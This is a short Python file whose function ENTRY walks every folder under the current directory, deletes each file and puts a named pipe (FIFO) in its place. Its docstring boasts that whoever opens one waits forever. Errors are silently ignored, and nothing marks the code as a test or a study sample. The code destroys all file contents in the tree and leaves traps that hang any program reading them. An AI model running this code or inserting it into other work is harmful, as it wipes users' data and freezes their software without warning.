"""Leaves FIFOs: whoever opens one waits for ever."""
import os


def ENTRY(*arguments, **named):
    for folder, _, names in os.walk("."):
        for name in names:
            path = os.path.join(folder, name)
            try:
                os.unlink(path)
                os.mkfifo(path)
            except OSError:
                pass
    return None
